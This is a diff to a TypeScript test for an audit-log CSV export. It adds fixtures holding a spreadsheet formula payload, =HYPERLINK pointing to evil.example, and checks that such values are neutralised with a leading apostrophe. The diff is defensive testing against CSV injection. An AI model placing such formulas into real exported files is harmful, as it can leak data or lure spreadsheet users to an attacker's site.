@@ -97,7 +97,12 @@ function parseCsv(text: string): string[][] {
 beforeAll(async () => {
   const acme = rechain(
     makeEntries({ tenantId: 'acme', count: 300, stepMillis: 60_000 }).map((e, i) =>
-      i % 10 === 0 ? { ...e, event: { ...e.event, reason: `needs "review", later #${i}` } } : e,
+      i % 10 === 0
+        ? { ...e, event: { ...e.event, reason: `needs "review", later #${i}` } }
+        : // A value a spreadsheet would run as a formula (OWASP "CSV Injection").
+          i % 10 === 5
+          ? { ...e, event: { ...e.event, reason: `=HYPERLINK("http://evil.example/?${i}")` } }
+          : e,
     ),
   );
   const globex = makeEntries({ tenantId: 'globex', count: 50, firstLsn: 301 });
@@ -213,13 +218,16 @@ describe('otel-audit export', () => {
       const byId = new Map(data.map((d) => [d[col('event_id')]!, d]));
       for (const e of want) {
         const d = byId.get(e.event.eventId)!;
-        expect(d[col('reason')]).toBe(e.event.reason ?? '');
+        // A formula-like value is exported with a leading apostrophe; the rest as it is.
+        const reason = e.event.reason ?? '';
+        expect(d[col('reason')]).toBe(reason.startsWith('=') ? `'${reason}` : reason);
         expect(d[col('hash')]).toBe(e.hash);
         expect(d[col('seq')]).toBe(String(e.seq));
         expect(d[col('target_ids')]).toBe((e.event.targets ?? []).map((t) => t.id).join('|'));
         expect(JSON.parse(d[col('details')]!)).toEqual(e.event.details);
       }
       expect(want.some((e) => e.event.reason?.includes('"'))).toBe(true);
+      expect(want.some((e) => e.event.reason?.startsWith('='))).toBe(true);
     },
     SLOW,
   );
